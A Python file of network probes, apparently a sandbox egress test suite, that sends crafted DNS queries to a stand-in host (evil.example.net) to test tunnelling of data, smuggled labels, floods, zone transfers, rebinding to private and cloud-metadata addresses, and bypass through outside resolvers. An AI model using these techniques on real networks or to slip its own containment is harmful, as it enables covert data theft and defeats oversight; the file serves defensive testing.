"""DNS attacks: ungranted names, data smuggled in questions, and answers that lead to forbidden addresses."""

from __future__ import annotations

import contextlib
import socket
import struct
import time

import wire
from harness import Blocked, probe
from wire import AAAA, ANY, API, AXFR, MX, NULL, TXT, WILD, A, label, question, resolved

MANY = 1000
FLOOD = 1500
EVIL = "evil.example.net"


@probe("dns_name")
def dns_name() -> str:
    return resolved(question(f"{label('dns_name')}.{EVIL}"))


@probe("dns_name_ipv6")
def dns_name_ipv6() -> str:
    return resolved(question(f"{label('dns_name_ipv6')}.{EVIL}", AAAA))


@probe("dns_name_by_stream")
def dns_name_by_stream() -> str:
    return resolved(question(f"{label('dns_name_by_stream')}.{EVIL}"), stream=True)


@probe("dns_suffix")
def dns_suffix() -> str:
    """The granted name as the beginning of another."""
    return resolved(question(f"{API}.{label('dns_suffix')}.{EVIL}"))


@probe("dns_prefix")
def dns_prefix() -> str:
    """The granted name as the end of another, which no exact grant covers."""
    return resolved(question(f"{label('dns_prefix')}.{API}"))


@probe("dns_dot_in_label")
def dns_dot_in_label() -> str:
    """A dot inside a label looks like the granted name once it is printed."""
    whole = b"\x0fapi.example.com" + wire.encoded(f"{label('dns_dot_in_label')}.{EVIL}")
    return resolved(question(".")[:12] + whole + struct.pack("!HH", A, 1))


@probe("dns_nul_in_label")
def dns_nul_in_label() -> str:
    whole = b"\x08api\0evil" + wire.encoded(f"{label('dns_nul_in_label')}.{EVIL}")
    return resolved(question(".")[:12] + whole + struct.pack("!HH", A, 1))


@probe("dns_tunnel_labels")
def dns_tunnel_labels() -> str:
    """The longest name there is: 200 bytes of data a question."""
    return resolved(question(f"{label('dns_tunnel_labels')}.{'d' * 63}.{'a' * 63}.{'t' * 63}.{EVIL}"[:250]))


@probe("dns_tunnel_txt")
def dns_tunnel_txt() -> str:
    return resolved(question(f"{label('dns_tunnel_txt')}.{EVIL}", TXT))


@probe("dns_tunnel_null")
def dns_tunnel_null() -> str:
    return resolved(question(f"{label('dns_tunnel_null')}.{EVIL}", NULL))


@probe("dns_tunnel_any")
def dns_tunnel_any() -> str:
    return resolved(question(f"{label('dns_tunnel_any')}.{EVIL}", ANY))


@probe("dns_tunnel_mx")
def dns_tunnel_mx() -> str:
    return resolved(question(f"{label('dns_tunnel_mx')}.{EVIL}", MX))


@probe("dns_type_txt_of_granted")
def dns_type_txt_of_granted() -> str:
    """TXT brings 64 KiB an answer, even of a name that is granted."""
    return resolved(question(f"{label('dns_type_txt_of_granted')}.{WILD}", TXT))


@probe("dns_type_null_of_granted")
def dns_type_null_of_granted() -> str:
    return resolved(question(f"{label('dns_type_null_of_granted')}.{WILD}", NULL))


@probe("dns_class_chaos")
def dns_class_chaos() -> str:
    return resolved(question(f"{label('dns_class_chaos')}.{WILD}", TXT, kclass=3))


@probe("dns_zone_transfer")
def dns_zone_transfer() -> str:
    return resolved(question(f"{label('dns_zone_transfer')}.{WILD}", AXFR), stream=True)


@probe("dns_update")
def dns_update() -> str:
    """Opcode 5 writes into a zone."""
    message = question(f"{label('dns_update')}.{WILD}", 6, flags=5 << 11)
    wire.ask(message)
    raise Blocked("answered, and only the link can tell whether it left")


@probe("dns_two_questions")
def dns_two_questions() -> str:
    """A granted question first, and another behind it."""
    first = question(API)
    second = wire.encoded(f"{label('dns_two_questions')}.{EVIL}") + struct.pack("!HH", A, 1)
    return resolved(first[:4] + struct.pack("!H", 2) + first[6:] + second)


@probe("dns_bytes_behind")
def dns_bytes_behind() -> str:
    """Data behind a granted question."""
    with contextlib.suppress(Blocked):
        wire.ask(question(API) + wire.mark("dns_bytes_behind"))
    raise Blocked("only the link can tell")


@probe("dns_option")
def dns_option() -> str:
    """Data in an EDNS option of a granted question."""
    data = wire.mark("dns_option")
    option = struct.pack("!HH", 65001, len(data)) + data
    extra = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option
    message = question(API)
    with contextlib.suppress(Blocked):
        wire.ask(message[:10] + struct.pack("!H", 1) + message[12:] + extra)
    raise Blocked("only the link can tell")


@probe("dns_letter_case")
def dns_letter_case() -> str:
    """One bit a letter, in the case of a granted name: the observer knows this spelling, too long for chance."""
    with contextlib.suppress(Blocked):
        wire.ask(question(f"tHeCaSeOfEaChLeTtErIsOnEbItOfAmEsSaGe.{WILD}"))
    raise Blocked("only the link can tell")


@probe("dns_answer_as_question")
def dns_answer_as_question() -> str:
    """A message that says it is an answer."""
    with contextlib.suppress(Blocked):
        wire.ask(question(f"{label('dns_answer_as_question')}.{WILD}", flags=0x8180))
    raise Blocked("only the link can tell")


@probe("dns_wildcard_many")
def dns_wildcard_many() -> str:
    """A granted wildcard is a channel by itself: each name below it is data. The observer counts how much passes."""
    mark = label("dns_wildcard_many")
    passed = _volley([f"{mark}-{number}.{WILD}" for number in range(MANY)])
    if not passed:
        raise Blocked("nothing was answered")
    return f"{passed} of {MANY} names answered"


@probe("dns_flood")
def dns_flood() -> str:
    """As many questions as the socket takes, of a name that is not granted."""
    mark = label("dns_flood")
    passed = _volley([f"{mark}-{number}.{EVIL}" for number in range(FLOOD)])
    if not passed:
        raise Blocked("nothing was answered")
    return f"{passed} of {FLOOD} names answered"


def _volley(asked: list[str]) -> int:
    """Send all questions without waiting; how many were answered with records."""
    answered = 0
    with socket.socket(wire.family(wire.resolver()), socket.SOCK_DGRAM) as made:
        made.connect((wire.resolver(), 53))
        made.setblocking(False)
        until = time.monotonic() + 8
        for name in asked:
            with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
                made.send(question(name))
            answered += _taken(made)
        made.settimeout(SETTLING)
        with contextlib.suppress(TimeoutError, ConnectionRefusedError):
            while time.monotonic() < until:
                answered += _counts(made.recv(4096))
    return answered


SETTLING = 0.7


def _taken(made: socket.socket) -> int:
    with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
        return _counts(made.recv(4096))
    return 0


def _counts(answer: bytes) -> bool:
    return len(answer) > 12 and not answer[3] & 15 and answer[7] > 0


def _rebind(first: str, port: int = 80, kind: int = A) -> str:
    """A granted name whose owner answers with an address of their choice."""
    address = wire.address_of(f"{first}.{WILD}", kind)
    with contextlib.suppress(OSError, Blocked):
        return wire.tcp("dns_rebind", address, port)
    return f"was told {address}"


@probe("rebind_private")
def rebind_private() -> str:
    return _rebind("private")


@probe("rebind_metadata")
def rebind_metadata() -> str:
    return _rebind("metadata")


@probe("rebind_loopback")
def rebind_loopback() -> str:
    return _rebind("loopback")


@probe("rebind_zero")
def rebind_zero() -> str:
    return _rebind("zero")


@probe("rebind_gateway")
def rebind_gateway() -> str:
    return _rebind("gateway")


@probe("rebind_link_local")
def rebind_link_local() -> str:
    return _rebind("linklocal")


@probe("rebind_alias")
def rebind_alias() -> str:
    """A canonical name that leads to the private address."""
    return _rebind("alias")


@probe("rebind_second")
def rebind_second() -> str:
    """Return a public address first and a private one second; a check of only the first lets the private one in."""
    wire.resolved(question(f"second.{WILD}"))
    return wire.tcp("rebind_second", wire.PRIVATE, 443)


@probe("rebind_mapped")
def rebind_mapped() -> str:
    return _rebind("mapped", kind=AAAA)


@probe("rebind_nat64")
def rebind_nat64() -> str:
    return _rebind("nat64", kind=AAAA)


@probe("rebind_6to4")
def rebind_6to4() -> str:
    return _rebind("sixtofour", kind=AAAA)


@probe("rebind_unique_local")
def rebind_unique_local() -> str:
    return _rebind("uniquelocal", kind=AAAA)


@probe("rebind_unrelated")
def rebind_unrelated() -> str:
    """The answer holds an address record of another name, which is granted nothing."""
    with contextlib.suppress(OSError, Blocked):
        wire.resolved(question(f"unrelated.{WILD}"))
    return wire.tcp(
        "rebind_unrelated",
        "9.9.9.77",
        443,
        first=wire.records(wire.hello("rebind_unrelated", wire.server_name(f"unrelated.{WILD}"))),
    )


@probe("resolver_direct")
def resolver_direct() -> str:
    return resolved(question(f"{label('resolver_direct')}.{EVIL}"), server=wire.RESOLVERS[0])


@probe("resolver_direct_granted_name")
def resolver_direct_granted_name() -> str:
    """Ask an ungranted resolver for a granted name."""
    return resolved(question(f"{label('resolver_direct_granted_name')}.{WILD}"), server=wire.RESOLVERS[1])


@probe("resolver_direct_stream")
def resolver_direct_stream() -> str:
    return resolved(question(f"{label('resolver_direct_stream')}.{EVIL}"), server=wire.RESOLVERS[0], stream=True)


@probe("resolver_direct_ipv6")
def resolver_direct_ipv6() -> str:
    return resolved(question(f"{label('resolver_direct_ipv6')}.{EVIL}"), server=wire.RESOLVER6)


@probe("resolver_upstream")
def resolver_upstream() -> str:
    """Ask the machine's own resolver, which the gate may use and the agent may not."""
    return resolved(question(f"{label('resolver_upstream')}.{EVIL}"), server="9.9.9.9")


@probe("resolver_other_port")
def resolver_other_port() -> str:
    return wire.udp("resolver_other_port", wire.RESOLVERS[0], 5353)


@probe("resolver_over_tls")
def resolver_over_tls() -> str:
    """DNS over TLS (RFC 7858)."""
    return wire.tcp("resolver_over_tls", wire.RESOLVERS[0], 853, first=_hello("resolver_over_tls"))


@probe("resolver_over_https")
def resolver_over_https() -> str:
    """DNS over HTTPS, by the address of the resolver."""
    return wire.tcp("resolver_over_https", wire.RESOLVERS[1], 443, first=_hello("resolver_over_https"))


@probe("resolver_over_https_ipv6")
def resolver_over_https_ipv6() -> str:
    return wire.tcp("resolver_over_https_ipv6", wire.RESOLVER6, 443, first=_hello("resolver_over_https_ipv6"))


@probe("resolver_over_quic")
def resolver_over_quic() -> str:
    """DNS over QUIC (RFC 9250)."""
    return wire.udp("resolver_over_quic", wire.RESOLVERS[0], 853)


def _hello(name: str) -> bytes:
    return wire.records(wire.hello(name, wire.server_name("dns.example.net")))


@probe("resolver_multicast")
def resolver_multicast() -> str:
    """mDNS (RFC 6762): everybody on the link hears it."""
    message = question(f"{label('resolver_multicast')}.local")
    return wire.tell("resolver_multicast", "224.0.0.251", 5353, message)


@probe("resolver_link_local_multicast")
def resolver_link_local_multicast() -> str:
    """LLMNR (RFC 4795)."""
    return wire.tell("resolver_link_local_multicast", "224.0.0.252", 5355)
